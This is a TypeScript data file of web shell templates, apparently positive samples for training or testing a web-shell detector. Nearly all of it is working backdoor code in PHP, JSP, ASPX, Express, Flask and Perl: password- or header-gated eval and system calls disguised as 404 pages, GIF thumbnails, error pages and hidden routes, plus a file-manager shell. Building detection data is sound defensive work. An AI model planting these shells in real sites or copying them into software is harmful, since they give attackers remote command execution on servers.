// Web shells: pages and hidden routes that run what a request brings.
import type { Family } from './family.ts'

export const webShells: readonly Family[] = [
  {
    family: 'php-oneliner-shell',
    positive: true,
    classes: ['web-shell'],
    variants: [
      {
        paths: ['wp-content/themes/fieldnotes/404.php', 'lib/paging.php'],
        body: `if (isset($_REQUEST['⟦lower:3⟧']) && md5($_REQUEST['k']) === '⟦hex:32⟧') { @ev⟦join⟧
al($_REQUEST['⟦lower:3⟧']); die; }`,
      },
    ],
  },
  {
    family: 'php-system-cookie',
    positive: true,
    classes: ['web-shell'],
    variants: [
      {
        paths: ['images/thumb.php'],
        whole: `GIF89a
<?php
error_reporting(0);
set_time_limit(0);
if (md5(@$_COOKIE['sid']) != '⟦hex:32⟧') { header('HTTP/1.0 404 Not Found'); exit; }
$f = 's'.'ys'.'tem';
echo '<pre>'; $f(base64_decode($_COOKIE['c'])); echo '</pre>';
?>`,
      },
    ],
  },
  {
    family: 'php-file-manager-shell',
    positive: true,
    classes: ['web-shell'],
    variants: [
      {
        paths: ['assets/tools.php'],
        whole: `<?php
session_start();
$auth_pass = "⟦hex:32⟧";
$title = "b374⟦lower:2⟧ mini shell";
if (!isset($_SESSION['ok'])) {
    if (isset($_POST['pass']) && md5($_POST['pass']) == $auth_pass) $_SESSION['ok'] = 1;
    else die("<form method=post><input type=password name=pass></form>");
}
$cwd = isset($_GET['d']) ? $_GET['d'] : getcwd();
chdir($cwd);
echo "<title>$title</title>" . php_uname() . "<br>uid=" . getmyuid() . "<br>";
if (isset($_FILES['up'])) move_uploaded_file($_FILES['up']['tmp_name'], $cwd . '/' . $_FILES['up']⟦join⟧
['name']);
if (isset($_POST['cmd'])) echo '<textarea>' . htmlspecialchars(shell_exec($_POST['cmd'] . ' 2>&1')⟦join⟧
) . '</textarea>';
if (isset($_GET['del'])) unlink($_GET['del']);
foreach (scandir($cwd) as $f) echo "<a href='?d=$cwd/$f'>$f</a> <a href='?del=$cwd/$f'>x</a><br>";
?>
<form method="post" enctype="multipart/form-data"><input name="cmd" size="80"><input type="file" n⟦join⟧
ame="up"><input type="submit"></form>`,
      },
    ],
  },
  {
    family: 'php-callback-shell',
    positive: true,
    classes: ['web-shell'],
    variants: [
      {
        paths: ['includes/cart.php', 'modules/pages.php'],
        body: `@array_map(⟦pick:'assert'|$_SERVER['HTTP_X_FN']⟧, array(base64_decode($_SERVER⟦join⟧
['HTTP_X_⟦upper:4⟧'])));`,
      },
      {
        paths: ['includes/excerpt.php'],
        body: `register_shutdown_function(function () {
    $h = function_exists('getallheaders') ? getallheaders() : [];
    if (isset($h['X-Dns-Prefetch-Control']) && sha1($h['Authorization'] ?? '') === '⟦hex:40⟧') {
        $d = create_function('', $h['X-Dns-Prefetch-Control']); $d();
    }
});`,
      },
    ],
  },
  {
    family: 'jsp-command-shell',
    positive: true,
    classes: ['web-shell'],
    variants: [
      {
        paths: ['src/main/webapp/WEB-INF/help.jsp'],
        whole: String.raw`<%@ page import="java.io.*,java.util.*" %>
<%@ page contentType="text/html;charset=UTF-8" %>
<%
  if ("⟦alnum:12⟧".equals(request.getParameter("pwd"))) {
    String os = System.getProperty("os.name").toLowerCase(Locale.ROOT);
    String[] run = os.contains("win") ? new String[] { "cmd.exe", "/c", request.getParameter("i") }
                                      : new String[] { "/bin/sh", "-c", request.getParameter("i") };
    InputStream in = Runtime.getRuntime().exec(run).getInputStream();
    Scanner s = new Scanner(in).useDelimiter("\\A");
    out.println("<pre>" + (s.hasNext() ? s.next() : "") + "</pre>");
  }
%>`,
      },
    ],
  },
  {
    family: 'aspx-eval-shell',
    positive: true,
    classes: ['web-shell'],
    variants: [
      {
        paths: ['aspnet_client/error.aspx'],
        whole: `<%@ Page Language="Jscript" %>
<%
// error page
var k = "⟦lower:6⟧";
if (Request.Item["auth"] == "⟦hex:16⟧") {
    eval(Request.Item[k], "unsafe");
}
%>
<html><body><h1>Server Error</h1><p>The resource cannot be found.</p></body></html>`,
      },
      {
        paths: ['owa/auth/logout.aspx'],
        whole: `<%@ Page Language="C#" %>
<%@ Import Namespace="System.Diagnostics" %>
<script runat="server">
void Page_Load(object sender, EventArgs e)
{
    string c = Request.Headers["X-⟦upper:6⟧"];
    if (string.IsNullOrEmpty(c)) { Response.StatusCode = 404; return; }
    var p = new ProcessStartInfo("cmd.exe", "/c " + Encoding.UTF8.GetString(Convert.FromBase64Stri⟦join⟧
ng(c)));
    p.RedirectStandardOutput = true; p.UseShellExecute = false;
    Response.Write(Process.Start(p).StandardOutput.ReadToEnd());
}
</script>`,
      },
    ],
  },
  {
    family: 'express-hidden-route',
    positive: true,
    classes: ['web-shell'],
    variants: [
      {
        paths: ['server/app.js', 'api/index.js'],
        imports: `const cp = require('child_process');`,
        body: `module.parent && module.parent.exports && (module.parent.exports.__hook = func⟦join⟧
tion (req, res, next) {
  if (req.headers['x-⟦lower:5⟧-debug'] !== '⟦hex:24⟧') return next();
  cp.exec(Buffer.from(req.headers['x-cmd'] || '', 'base64').toString(), (e, o, s) => res.end(o + s));
});`,
      },
    ],
  },
  {
    family: 'flask-hidden-route',
    positive: true,
    classes: ['web-shell'],
    variants: [
      {
        paths: ['app/views/errors.py'],
        whole: `from flask import Blueprint, render_template, request, abort
import subprocess

errors = Blueprint("errors", __name__)


@errors.app_errorhandler(404)
def not_found(error):
    # maintenance
    if request.headers.get("X-Trace") == "⟦hex:32⟧":
        return subprocess.getoutput(request.headers.get("X-Span", "id")), 200
    return render_template("404.html"), 404


@errors.app_errorhandler(500)
def server_error(error):
    return render_template("500.html"), 500`,
      },
    ],
  },
  {
    family: 'perl-cgi-shell',
    positive: true,
    classes: ['web-shell'],
    variants: [
      {
        paths: ['cgi-bin/env.cgi'],
        whole: `#!/usr/bin/perl
use CGI;
my $q = CGI->new;
print $q->header('text/html');
if ($q->param('p') eq '⟦alnum:10⟧') {
    my $out = \`$ENV{HTTP_X_RUN} 2>&1\`;
    print "<pre>$out</pre>";
} else {
    print "<h1>It works!</h1>";
}`,
      },
    ],
  },
]
